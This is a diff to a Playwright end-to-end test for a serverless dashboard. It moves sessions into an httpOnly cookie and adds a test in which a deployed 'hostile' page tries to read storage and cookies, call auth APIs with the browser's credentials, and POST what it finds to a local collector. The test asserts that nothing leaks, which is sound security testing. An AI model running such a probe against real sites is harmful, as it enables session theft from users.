@@ -11,6 +11,7 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawn, spawnSync } from 'node:child_process';
+import { createServer } from 'node:http';
 import { mkdirSync, mkdtempSync, rmSync, existsSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
@@ -45,6 +46,7 @@ const PY_CODE = [
 let server; // child process
 let serverLog = '';
 let base; // http://127.0.0.1:PORT
+let triggerBase; // the trigger listener, an origin of its own
 let dataDir;
 let browser;
 let context;
@@ -89,7 +91,7 @@ async function shot(p, name, { toasts = false } = {}) {
 function startServer() {
   return new Promise((resolve, reject) => {
     const bin = process.env.VOLTRUN_BIN ?? path.join(ROOT, 'target', 'debug', 'voltrun');
-    const args = ['serve', '--listen', '127.0.0.1:0', '--data-dir', dataDir, '--sandbox', SANDBOX];
+    const args = ['serve', '--listen', '127.0.0.1:0', '--trigger-listen', '127.0.0.1:0', '--data-dir', dataDir, '--sandbox', SANDBOX];
     if (SANDBOX === 'process') args.push('--insecure');
     server = spawn(bin, args, { cwd: ROOT, stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, VOLTRUN_LOG: 'info' } });
     const timer = setTimeout(() => reject(new Error(`voltrun did not start in 60 s:\n${serverLog}`)), 60_000);
@@ -98,8 +100,10 @@ function startServer() {
       out += d;
       serverLog += d;
       const m = /voltrun listening on (http:\/\/\S+)/.exec(out);
-      if (m && !base) {
+      const t = /voltrun triggers listening on (http:\/\/\S+)/.exec(out);
+      if (m && t && !base) {
         base = m[1];
+        triggerBase = t[1];
         clearTimeout(timer);
         resolve();
       }
@@ -165,6 +169,21 @@ after(async () => {
   if (dataDir) rmSync(dataDir, { recursive: true, force: true });
   if (problems.length) console.error(`server log:\n${serverLog.slice(-4000)}`);
 });
+
+let apiTokenCache;
+/** An access token of the e2e user for calls from outside the browser (the page keeps its own in memory only). */
+async function apiToken() {
+  if (!apiTokenCache) {
+    const r = await fetch(`${base}/api/auth/login`, {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json' },
+      body: JSON.stringify({ email: EMAIL, password: PASSWORD }),
+    });
+    assert.equal(r.status, 200);
+    apiTokenCache = (await r.json()).token;
+  }
+  return apiTokenCache;
+}
 
 /** Each step also fails on console errors it did not expect. */
 function step(name, fn) {
@@ -246,11 +265,8 @@ step('create a Python function in the editor', async () => {
   await page.getByTestId('toast').getByText('Created hello-e2e').waitFor();
   // What was typed is what was stored, indentation included.
   const id = fnUrl.split('/').pop();
-  const stored = await page.evaluate(async (id) => {
-    const s = JSON.parse(localStorage.getItem('voltrun.session'));
-    const r = await fetch(`/api/functions/${id}`, { headers: { Authorization: `Bearer ${s.token}` } });
-    return (await r.json()).code;
-  }, id);
+  const r = await fetch(`${base}/api/functions/${id}`, { headers: { Authorization: `Bearer ${await apiToken()}` } });
+  const stored = (await r.json()).code;
   assert.equal(stored, '# typed in the dashboard\n' + PY_CODE);
 });
 
@@ -407,19 +423,159 @@ step('a Node.js function gets JavaScript highlighting and runs', async () => {
 });
 
 step('an expired access token is refreshed once and the call retried', async () => {
-  await page.evaluate(() => {
-    const s = JSON.parse(localStorage.getItem('voltrun.session'));
-    s.token = 'expired.' + s.token.split('.')[1] + '.bad';
-    localStorage.setItem('voltrun.session', JSON.stringify(s));
+  // The access token lives in the page's memory only: make the server's answer say it expired.
+  let rejected = 0;
+  const functionsPage = (url) => url.pathname === '/api/functions' && url.search === '?limit=50';
+  await page.route(functionsPage, async (route) => {
+    if (rejected++ === 0) {
+      await route.fulfill({ status: 401, contentType: 'application/json', body: '{"error":{"code":"unauthorized","message":"invalid or expired token"}}' });
+    } else {
+      await route.continue();
+    }
   });
-  const oldRefresh = await page.evaluate(() => JSON.parse(localStorage.getItem('voltrun.session')).refresh_token);
-  await expectingConsoleErrors([/status of 401/], async () => {
-    await page.goto(base + '/functions');
+  const refreshes = [];
+  const onResponse = (r) => {
+    if (r.url().endsWith('/api/auth/refresh')) refreshes.push(r.status());
+  };
+  page.on('response', onResponse);
+  try {
+    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Executions' }).click();
+    await page.waitForURL(/\/executions$/);
+    await expectingConsoleErrors([/status of 401/], async () => {
+      await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Functions' }).click();
+      await page.getByTestId('functions-table').getByText('hello-e2e').waitFor();
+    });
+  } finally {
+    page.off('response', onResponse);
+    await page.unroute(functionsPage);
+  }
+  assert.ok(rejected >= 2, 'the call was retried');
+  assert.deepEqual(refreshes, [200], 'one refresh, from the cookie');
+});
+
+step('the session is in no script-readable place and survives a reload', async () => {
+  const seen = await page.evaluate(() => ({
+    local: JSON.stringify({ ...localStorage }),
+    session: JSON.stringify({ ...sessionStorage }),
+    cookie: document.cookie,
+  }));
+  assert.deepEqual(seen, { local: '{}', session: '{}', cookie: '' });
+  const cookies = await context.cookies();
+  const c = cookies.find((c) => c.name === 'voltrun_refresh');
+  assert.ok(c, `the refresh cookie is stored: ${JSON.stringify(cookies)}`);
+  assert.deepEqual([c.httpOnly, c.secure, c.sameSite, c.path], [true, true, 'Strict', '/api/auth']);
+  await page.reload();
+  await page.getByTestId('functions-table').getByText('hello-e2e').waitFor();
+  await page.locator('.account-email', { hasText: 'Ada Lovelace' }).waitFor();
+});
+
+step('two tabs restoring at once both stay signed in', async () => {
+  const [a, b] = [await context.newPage(), await context.newPage()];
+  watch(a, 'tab-a');
+  watch(b, 'tab-b');
+  await Promise.all([a.goto(base + '/functions'), b.goto(base + '/keys')]);
+  await a.getByTestId('functions-table').getByText('hello-e2e').waitFor();
+  await b.getByText('No API keys').waitFor();
+  await a.close();
+  await b.close();
+  // The family was not revoked by the two refreshes: this tab still refreshes after a reload.
+  await page.reload();
+  await page.getByTestId('functions-table').getByText('hello-e2e').waitFor();
+});
+
+/** A collector on 127.0.0.1 that records what hostile pages report. */
+function startCollector() {
+  const reports = [];
+  const srv = createServer((req, res) => {
+    let body = '';
+    req.on('data', (d) => (body += d));
+    req.on('end', () => {
+      if (req.method === 'POST') reports.push(body);
+      res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
+      res.end();
+    });
+  });
+  return new Promise((resolve) => srv.listen(0, '127.0.0.1', () => resolve({ srv, reports, url: `http://127.0.0.1:${srv.address().port}/` })));
+}
+
+/** What a hostile script tries: the storages, the cookies, and the API with the browser's credentials. */
+async function probe(main) {
+  const r = { origin: location.origin };
+  const attempt = async (k, f) => {
+    try {
+      r[k] = await f();
+    } catch (e) {
+      r[k] = 'error: ' + e.name;
+    }
+  };
+  await attempt('local', () => JSON.stringify({ ...localStorage }));
+  await attempt('session', () => JSON.stringify({ ...sessionStorage }));
+  await attempt('cookie', () => document.cookie);
+  const call = async (url, init) => {
+    const resp = await fetch(url, init);
+    return resp.status + ' ' + (await resp.text());
+  };
+  await attempt('refresh', () => call(main + '/api/auth/refresh', { method: 'POST', credentials: 'include', headers: { 'X-VoltRun-Session': 'cookie' } }));
+  await attempt('refreshSimple', () => call(main + '/api/auth/refresh', { method: 'POST', credentials: 'include', body: '{}' }));
+  await attempt('logout', () => call(main + '/api/auth/logout', { method: 'POST', credentials: 'include', headers: { 'X-VoltRun-Session': 'cookie' } }));
+  await attempt('functions', () => call(main + '/api/functions', { credentials: 'include' }));
+  return r;
+}
+
+/** Asserts a probe's results hold no token and no data of the user's. */
+function assertNothingLeaked(what, r) {
+  const text = JSON.stringify(r);
+  assert.ok(!/eyJ[A-Za-z0-9_-]{10,}/.test(text), `${what}: a token leaked: ${text}`);
+  assert.ok(!text.includes('voltrun_refresh'), `${what}: the cookie leaked: ${text}`);
+  assert.ok(!text.includes('hello-e2e'), `${what}: the user's data leaked: ${text}`);
+  for (const k of ['refresh', 'refreshSimple', 'logout', 'functions']) {
+    assert.ok(!String(r[k]).startsWith('2'), `${what}: ${k} succeeded: ${r[k]}`);
+  }
+}
+
+step('a hostile public trigger page cannot read or use the session', async () => {
+  const collector = await startCollector();
+  try {
+    const html = `<!doctype html><title>hostile</title><script>
+      document.title = 'ran';
+      (${probe.toString()})(${JSON.stringify(base)}).then(async (r) => {
+        await fetch(${JSON.stringify(collector.url)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(r) });
+        document.title = 'reported';
+      });
+    </script>`;
+    const code = `import json\nHTML = json.loads(${JSON.stringify(JSON.stringify(html))})\n\ndef handler(event, context):\n    return {'statusCode': 200, 'headers': {'content-type': 'text/html'}, 'body': HTML}\n`;
+    const r = await fetch(`${base}/api/functions`, {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${await apiToken()}` },
+      body: JSON.stringify({ name: 'evil-page', runtime: 'python3.11', code, route: 'evil', public: true }),
+    });
+    assert.equal(r.status, 201, await r.text());
+
+    // On the dashboard's origin the page runs under CSP sandbox: its script never runs ...
+    const shared = await context.newPage();
+    await shared.goto(base + '/api/execute/evil');
+    assert.equal(await shared.title(), 'hostile', 'the inline script ran on the dashboard origin');
+    // ... and a script that ran anyway (injected through DevTools, past the CSP) has an opaque
+    // origin: no storage, no cookies, and the API refuses it.
+    assertNothingLeaked('shared origin', await shared.evaluate(probe, base));
+    await shared.close();
+
+    // On the trigger listener the page's script runs (no CSP sandbox there) and reports.
+    const own = await context.newPage();
+    await own.goto(triggerBase + '/evil');
+    await own.waitForFunction(() => document.title === 'reported', null, { timeout: 20_000 });
+    await own.close();
+    assert.equal(collector.reports.length, 1, 'one report from the trigger origin');
+    const report = JSON.parse(collector.reports[0]);
+    assert.equal(report.origin, triggerBase);
+    assertNothingLeaked('trigger origin', report);
+
+    // The dashboard still works, and its session survives a reload (nothing was rotated or revoked).
+    await page.reload();
     await page.getByTestId('functions-table').getByText('hello-e2e').waitFor();
-  });
-  const s = await page.evaluate(() => JSON.parse(localStorage.getItem('voltrun.session')));
-  assert.notEqual(s.refresh_token, oldRefresh);
-  assert.ok(!s.token.startsWith('expired.'));
+  } finally {
+    collector.srv.close();
+  }
 });
 
 step('unknown pages show the dashboard not-found page', async () => {
@@ -478,7 +634,7 @@ step('log out', async () => {
   await page.goto(base + '/functions');
   await page.getByRole('button', { name: 'Log out' }).click();
   await page.waitForURL(/\/login$/);
-  assert.equal(await page.evaluate(() => localStorage.getItem('voltrun.session')), null);
+  assert.equal((await context.cookies()).find((c) => c.name === 'voltrun_refresh'), undefined, 'the cookie is cleared');
   await page.goto(base + '/keys');
   await page.waitForURL(/\/login\?next=%2Fkeys$/);
   await shot(page, 'login');
